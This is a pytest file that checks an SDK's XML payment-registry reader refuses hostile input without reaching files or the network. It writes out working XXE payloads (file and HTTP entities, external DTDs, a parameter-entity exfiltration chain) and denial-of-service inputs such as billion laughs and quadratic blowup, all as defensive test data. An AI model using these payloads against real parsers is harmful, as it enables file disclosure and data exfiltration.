"""The hostile XML corpus: every file is refused with the SDK's typed error, without the
parser reaching the file system or the network.

Files that name a local file point at a real file with a secret in it, and the test checks
that the secret appears nowhere (error, issues, records, rejects file). Files that name a
URL point at a socket this test listens on, and the test checks that nobody connected.
"""

from __future__ import annotations

import socket
from collections.abc import Iterator
from pathlib import Path

import pytest
from pes_sdk_1c_xml import OneCXmlPayments

from pes_sdk.errors import PesError, RegistryRefused
from pes_sdk.formats.base import Policy

NS = "urn:pes-sdk:registry:1"
ROOT = f'<PaymentRegistry xmlns="{NS}" partnerInn="7707083893" number="1" date="2026-11-27">'
TOTALS = '<Totals count="0" amount="0.00" transfer="0.00" fee="0.00"/>'
SECRET = "TOP-SECRET-7c1e0f"


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET, encoding="utf-8")
    return path


@pytest.fixture
def listener() -> Iterator[tuple[socket.socket, str]]:
    """A socket on 127.0.0.1 that nobody should connect to, and its base URL."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind(("127.0.0.1", 0))
    sock.listen(8)
    sock.setblocking(False)
    try:
        yield sock, f"http://127.0.0.1:{sock.getsockname()[1]}"
    finally:
        sock.close()


def assert_no_connection(sock: socket.socket) -> None:
    with pytest.raises(BlockingIOError):
        conn, _ = sock.accept()
        conn.close()


def refuse(path: Path, *, policy: Policy = Policy.QUARANTINE) -> RegistryRefused:
    """Open and read ``path``; it must be refused whole with RegistryRefused."""
    records = []
    with (
        pytest.raises(RegistryRefused) as info,
        OneCXmlPayments().open(path, policy=policy) as reader,
    ):
        records.extend(reader)
    err = info.value
    assert isinstance(err, PesError)
    assert err.path == path
    assert str(path) in str(err)
    assert not (path.parent / (path.name + ".rejects.csv")).exists()
    assert SECRET not in str(err) and all(SECRET not in str(i) for i in err.issues)
    assert all(SECRET not in repr(r) for r in records)
    return err


def write(tmp_path: Path, text: str | bytes, name: str = "hostile.xml") -> Path:
    path = tmp_path / name
    if isinstance(text, str):
        path.write_text(text, encoding="utf-8")
    else:
        path.write_bytes(text)
    return path


def test_xxe_file_entity(tmp_path: Path, secret: Path) -> None:
    doc = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<!DOCTYPE PaymentRegistry [<!ENTITY x SYSTEM "{secret.as_uri()}">]>\n'
        f'{ROOT}<Payment paidAt="2026-11-27T10:00:00" operationId="&x;" account="1" '
        'amount="1.00" transfer="1.00" fee="0.00"/>'
        '<Totals count="1" amount="1.00" transfer="1.00" fee="0.00"/></PaymentRegistry>'
    )
    err = refuse(write(tmp_path, doc))
    assert "DOCTYPE" in err.message and "line 2" in str(err)


def test_xxe_http_entity(tmp_path: Path, listener: tuple[socket.socket, str]) -> None:
    sock, url = listener
    doc = (
        f'<!DOCTYPE PaymentRegistry [<!ENTITY x SYSTEM "{url}/x">]>\n'
        f"{ROOT}<Payment operationId='&x;'/>{TOTALS}</PaymentRegistry>"
    )
    err = refuse(write(tmp_path, doc))
    assert "DOCTYPE" in err.message
    assert_no_connection(sock)


def test_billion_laughs(tmp_path: Path) -> None:
    ents = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    ]
    doc = f"<!DOCTYPE PaymentRegistry [{''.join(ents)}]>\n{ROOT}&lol9;{TOTALS}</PaymentRegistry>"
    refuse(write(tmp_path, doc))


def test_quadratic_blowup(tmp_path: Path) -> None:
    doc = (
        f'<!DOCTYPE PaymentRegistry [<!ENTITY a "{"a" * 50_000}">]>\n'
        f"{ROOT}<Payment service='{'&a;' * 50_000}'/>{TOTALS}</PaymentRegistry>"
    )
    refuse(write(tmp_path, doc))


def test_external_dtd_file(tmp_path: Path, secret: Path) -> None:
    dtd = write(tmp_path, f'<!ENTITY x SYSTEM "{secret.as_uri()}">', "evil.dtd")
    doc = f'<!DOCTYPE PaymentRegistry SYSTEM "{dtd.as_uri()}">\n{ROOT}&x;{TOTALS}</PaymentRegistry>'
    refuse(write(tmp_path, doc))


def test_external_dtd_http(tmp_path: Path, listener: tuple[socket.socket, str]) -> None:
    sock, url = listener
    doc = (
        f'<!DOCTYPE PaymentRegistry PUBLIC "-//EVIL//DTD" "{url}/evil.dtd">\n'
        f"{ROOT}{TOTALS}</PaymentRegistry>"
    )
    refuse(write(tmp_path, doc))
    assert_no_connection(sock)


def test_parameter_entities(
    tmp_path: Path, secret: Path, listener: tuple[socket.socket, str]
) -> None:
    sock, url = listener
    doc = (
        "<!DOCTYPE PaymentRegistry [\n"
        f'  <!ENTITY % file SYSTEM "{secret.as_uri()}">\n'
        f"  <!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM '{url}/?%file;'>\">\n"
        "  %eval; %exfil;\n"
        "]>\n"
        f"{ROOT}{TOTALS}</PaymentRegistry>"
    )
    refuse(write(tmp_path, doc))
    assert_no_connection(sock)


@pytest.mark.parametrize(
    "prolog",
    [
        "<!DOCTYPE PaymentRegistry>\n",
        "<!DOCTYPE PaymentRegistry []>\n",
        '<?xml version="1.0"?>\n<!-- a comment -->\n<?pi x?>\n<!DOCTYPE PaymentRegistry>\n',
        "<!doctype PaymentRegistry>\n",
        "<!ENTITY x 'y'>\n",
        "\ufeff<!DOCTYPE PaymentRegistry>\n",
    ],
    ids=["plain", "empty-subset", "after-comment-and-pi", "lower-case", "bare-entity", "bom"],
)
def test_doctype_of_any_kind(tmp_path: Path, prolog: str) -> None:
    err = refuse(write(tmp_path, f"{prolog}{ROOT}{TOTALS}</PaymentRegistry>"))
    assert "not allowed" in err.message or "not well-formed" in err.message


def test_doctype_in_utf16_is_refused(tmp_path: Path) -> None:
    doc = f'<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE x>\n{ROOT}{TOTALS}</PaymentRegistry>'
    err = refuse(write(tmp_path, doc.encode("utf-16")))
    assert "UTF-8" in err.message


def test_undefined_entity_without_dtd(tmp_path: Path) -> None:
    err = refuse(write(tmp_path, f"{ROOT}&x;{TOTALS}</PaymentRegistry>"))
    assert "not well-formed" in err.message


@pytest.mark.parametrize("where", ["root", "record"])
def test_deep_nesting(tmp_path: Path, where: str) -> None:
    deep = "<a>" * 10_000 + "</a>" * 10_000
    if where == "record":
        body = (
            '<Payment paidAt="2026-11-27T10:00:00" operationId="1" account="1" amount="1.00"'
            f' transfer="1.00" fee="0.00">{deep}</Payment>'
        )
    else:
        body = deep
    doc = f"{ROOT}\n{body}\n{TOTALS}</PaymentRegistry>\n"
    err = refuse(write(tmp_path, doc))
    assert "not well-formed" in err.message
    assert err.issues and err.issues[0].line >= 1


@pytest.mark.parametrize("where", ["text", "record-text", "attribute"])
def test_50_mb_text_node(tmp_path: Path, where: str) -> None:
    big = "A" * (50 * 1024 * 1024)
    path = tmp_path / "big.xml"
    with open(path, "w", encoding="ascii") as fh:
        fh.write(ROOT + "\n")
        if where == "text":
            fh.write(big)
        elif where == "record-text":
            fh.write(
                f'<Payment paidAt="2026-11-27T10:00:00" operationId="1" account="1" '
                f'amount="1.00" transfer="1.00" fee="0.00">{big}</Payment>'
            )
        else:
            fh.write(f'<Payment operationId="{big}"/>')
        fh.write(f"\n{TOTALS}</PaymentRegistry>\n")
    del big
    err = refuse(path)
    assert "not well-formed" in err.message


def test_prolog_without_root_is_refused(tmp_path: Path) -> None:
    err = refuse(
        write(tmp_path, "<!--" + "x" * 70_000 + "-->" + ROOT + TOTALS + "</PaymentRegistry>")
    )
    assert "root element" in err.message
